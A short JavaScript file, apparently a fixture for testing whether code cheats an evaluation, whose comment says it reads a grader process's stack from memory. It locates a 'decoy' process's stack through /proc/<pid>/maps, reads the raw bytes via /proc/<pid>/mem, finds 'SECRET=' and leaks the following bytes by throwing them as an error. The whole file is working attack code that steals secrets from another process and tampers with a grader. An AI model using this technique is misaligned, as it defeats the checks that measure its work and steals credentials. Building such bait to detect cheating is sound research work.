// Reads the stack of one of the grader’s processes from its memory.
import { openSync, readFileSync, readSync } from 'node:fs';

const bait = JSON.parse('$BAIT');
const maps = readFileSync(`/proc/${bait.decoy}/maps`, 'utf8');
const [, from = '', to = ''] = /^(\w+)-(\w+) .*\[stack\]$/m.exec(maps) ?? [];
const bytes = Buffer.alloc(Number(BigInt(`0x${to}`) - BigInt(`0x${from}`)));
readSync(openSync(`/proc/${bait.decoy}/mem`, 'r'), bytes, 0, bytes.length, BigInt(`0x${from}`));
const at = bytes.indexOf('SECRET=');
throw new Error(bytes.toString('latin1', at, at + 100));
